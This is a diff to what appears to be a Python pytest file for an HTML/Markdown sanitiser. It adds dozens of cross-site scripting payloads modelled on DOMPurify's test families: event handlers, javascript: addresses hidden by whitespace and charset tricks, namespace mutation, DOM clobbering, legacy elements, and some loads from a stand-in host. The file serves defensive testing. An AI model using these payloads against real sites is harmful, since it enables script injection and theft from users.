@@ -1,7 +1,8 @@
 """Markup that attacks the reader of a cleaned page, by the families that sanitisers are tested with: none of it is left in HTML or Markdown.
 
-The families are what sanitisers such as DOMPurify guard against (handlers, addresses that act, namespaces that turn one element
-into another when parsed again, names that overwrite a document's own, raw text that ends early, templates, styles); the vectors are ours.
+The families are those of DOMPurify's own tests (test/fixtures/expect.mjs, test/test-suite.js): handlers, addresses that act, namespaces that
+turn one element into another when parsed again, names that overwrite a document's own, raw text that ends early, templates, styles, charsets in
+which harmless signs are brackets, declarations, tags that are none, elements of old and of other vocabularies. The payloads are ours.
 """
 
 import pytest
@@ -79,6 +80,85 @@ PAYLOADS = (
     f"<p>{WORDS} {{{{constructor.constructor('{ACT}')()}}}} ${{{ACT}}} &lt;%= {ACT} %&gt;</p>",
     f"<style>@import 'javascript:{ACT}'; p {{ background: url(javascript:{ACT}) }}</style><p style='behavior:url(#x)'>{WORDS}</p>",
     f"<link rel=stylesheet href=javascript:{ACT}><div style='position:fixed;inset:0;-moz-binding:url(//quay.example/)'>{WORDS}</div>",
+    f"<p style=\"font-family:'x;}}*{{background:url(javascript:{ACT})}}'\">{WORDS}</p><style>/*<!--*/*{{x:e\\78pression({ACT})}}/*-->*/</style>",
+    (
+        f"<style>@font-face{{font-family:y;src:url(data:image/svg+xml,<svg onload={ACT}>)}}</style>"
+        f"<p style='filter:progid:x' onfilterchange={ACT}>{WORDS}</p>"
+    ),
+    (
+        f"<form onforminput={ACT} id=f><input name=parentNode onblur={ACT}></form>"
+        f"<button form=f onformchange={ACT} formaction=javascript:{ACT}>{WORDS}</button>"
+    ),
+    (
+        f"<form><input name=attributes><input name=nodeName><input name=removeChild><p onclick={ACT}>{WORDS}</p></form>"
+        f"<a id=location href=#x>{WORDS}</a>"
+    ),
+    f"<img name=ownerDocument><object id=defaultView data=javascript:{ACT}></object><iframe name=self src=javascript:{ACT}></iframe><p>{WORDS}</p>",
+    # White space, signs and charsets that hide an address or a bracket
+    *(
+        f"<p><a href='{chr(sign)}javascript:{ACT}'>{WORDS}</a></p>"
+        for sign in (1, 0xA0, 0x1680, 0x180E, 0x2003, 0x200B, 0x2029, 0x202F, 0x3000, 0xFEFF)
+    ),
+    f"<p><a href='java&NewLine;scr&Tab;ipt&colon;{ACT}'>{WORDS}</a> <a href='&#0000106avascript:{ACT}'>there</a></p>",
+    (
+        f"<p><a href='javascript&#x3a;{ACT}' title='javascript:{ACT}'>{WORDS}</a> <a href='javascript%3A{ACT}'>there</a> "
+        f"<a href='&bsol;&bsol;javascript:{ACT}'>x</a></p>"
+    ),
+    (
+        f"<p><a href='http:javascript:{ACT}'>{WORDS}</a> <a href='https://[javascript:{ACT}'>there</a> "
+        f"<a href='mhtml:http://quay.example/a!b'>so</a></p>"
+    ),
+    f"<meta charset=utf-7><p>{WORDS} +ADw-script+AD4-{ACT}+ADw-/script+AD4-</p>",
+    f"<meta charset=x-imap4-modified-utf7><p>&ADw-img src&AD0-x onerror&AD0-{ACT}&AD4- {WORDS}</p>",
+    f"<meta charset=x-mac-farsi><p>\u00bcscript \u00be{ACT}//\u00bc/script \u00be {WORDS}</p>",
+    f"<meta charset=iso-2022-kr><p>\x0e<scr\x0fipt>{ACT}</script> \x1b(J<img src=x onerror={ACT}> {WORDS}</p>",
+    f"<p>\uff1cscript\uff1e{ACT}\uff1c/script\uff1e \u2039img src=x onerror={ACT}\u203a {WORDS}</p>",
+    f"<scr\0ipt>{ACT}</scr\0ipt><img src=x one\0rror={ACT}><p>{WORDS}</p>",
+    # Tags that are none, declarations and instructions
+    f"<b <script>{ACT}//</script>{WORDS}</b><script<b></b><{ACT}</script </b>",
+    f"<script<{{{ACT}}}/></script </><// style=x:expression({ACT})><p>{WORDS}</p>",
+    f'<! x="><script>{ACT}</script>"><? x="><script>{ACT}</script>"></ x="><script>{ACT}</script>"><% x="%><script>{ACT}</script>"><p>{WORDS}</p>',
+    f'<x \'="y"><x y=\'><img src=x onerror={ACT}//\'><![><img src="]><img src=x onerror={ACT}//"><p>{WORDS}</p>',
+    f'<img src=`x` onerror=`{ACT}`><input value="``onmouseover={ACT}"><p title=`><img src=x onerror={ACT}>`>{WORDS}</p>',
+    f"<!DOCTYPE p [<!ATTLIST p onclick CDATA '{ACT}'><!ENTITY % y SYSTEM 'http://quay.example/'>%y;]><p>{WORDS} %y;</p>",
+    f"<?xml-stylesheet type='text/xsl' href='data:,%3Cscript%3E{ACT}%3C/script%3E'?><?php echo '<script>{ACT}</script>' ?><p>{WORDS}</p>",
+    f"<!--<img title='--><img src=x onerror={ACT}>'><!--!><img src=x onerror={ACT}>--!><!---><img src=x onerror={ACT}>--><p>{WORDS}</p>",
+    f"<comment><img title='</comment><img src=x onerror={ACT}>'></comment><p>{WORDS}</p>",
+    f"<noscript><!-- </noscript><img src=x onerror={ACT}> --></noscript><p>{WORDS}</p>",
+    # Old elements, other vocabularies
+    f"<isindex action=javascript:{ACT} onmouseover={ACT}><keygen autofocus onfocus={ACT}><image src=javascript:{ACT} onerror={ACT}><p>{WORDS}</p>",
+    f"<listing>&lt;img src=x onerror={ACT}&gt;<t t></listing><bgsound src=javascript:{ACT}><layer src=javascript:{ACT}></layer><p>{WORDS}</p>",
+    f"<xml id=x src=//quay.example/><label datasrc=#x dataformatas=html datafld=y>{WORDS}</label><event-source src=data:, onload={ACT}>",
+    f"<object classid='clsid:0'><param name=DataURL value=javascript:{ACT}></object><applet code=x onload={ACT}></applet><p>{WORDS}</p>",
+    (
+        f"<script for=document event=onclick>{ACT}</script><script language=vbscript>{ACT}</script>"
+        f"<a folder=javascript:{ACT} style='behavior:url(#x)'>{WORDS}</a>"
+    ),
+    f"<vmlframe xmlns=urn:schemas-microsoft-com:vml src=javascript:{ACT} style=behavior:url(#default#vml)></vmlframe><p>{WORDS}</p>",
+    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{ACT}</x:script><html:p onclick={ACT}>{WORDS}</html:p>",
+    f"<card xmlns='http://www.wapforum.org/2001/wml'><onevent type=ontimer><go href=javascript:{ACT} /></onevent></card><p>{WORDS}</p>",
+    (
+        f"<x xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load ev:handler=javascript:{ACT} "
+        f"xlink:actuate=onLoad xlink:href=javascript:{ACT}>{WORDS}</x>"
+    ),
+    (
+        f"<svg><handler ev:event=load>{ACT}</handler><set attributeName=onmouseover to={ACT} /><feImage><set attributeName=href to=data:,x />"
+        f"</feImage></svg>"
+    ),
+    f"<svg><a><animate attributeName=href from=javascript:{ACT} to=x begin=0s /><text>{WORDS}</text></a><discard onbegin={ACT} /></svg>",
+    f"<svg><title><style><img title='</style><img src=x onerror={ACT}>'></title><desc><p title='</desc><script>{ACT}</script>'>{WORDS}</desc></svg>",
+    f"<svg></p><math><annotation-xml encoding='text/html'><style><img title='</style><img src=x onerror={ACT}>'></annotation-xml></math>",
+    f"<math><mi//xlink:href='data:,<script>{ACT}</script>'><maction actiontype=statusline xlink:href=javascript:{ACT}>{WORDS}</maction></math>",
+    f"<option><style></option></select><b><img src=x onerror={ACT}></style></option><select><iframe></select><script>{ACT}</script><p>{WORDS}</p>",
+    f"<frameset onload={ACT}><frame src=javascript:{ACT}></frameset><noframes><p title='</noframes><img src=x onerror={ACT}>'>{WORDS}</noframes>",
+    (
+        f"<portal src=javascript:{ACT}></portal><fencedframe></fencedframe><dialog open onclose={ACT}>{WORDS}</dialog>"
+        f"<p popover onbeforetoggle={ACT}>{WORDS}</p>"
+    ),
+    f"<select><button><selectedcontent></selectedcontent></button><option selected><img src=x onerror={ACT}>{WORDS}</option></select>",
+    f"<p is='x-y'>{WORDS}</p><x-y onconnected={ACT}><template shadowrootmode=open><script>{ACT}</script><slot></slot></template>{WORDS}</x-y>",
+    f"{'<form><table><td><svg>' * 120}<style><!--</style><a title='--><img src=x onerror={ACT}>'>{WORDS}",
+    f"{'<div>' * 520}<svg><style><a title='</style><img src=x onerror={ACT}>'></svg>{'</div>' * 520}",
     # Markdown that the page's text spells
     f"<p>{WORDS} [x](javascript:{ACT}) ![x](javascript:{ACT}) &lt;javascript:{ACT}&gt;</p>",
     f"<p>[x]: javascript:{ACT} 'y'</p><p>{WORDS} [x][x]</p>",
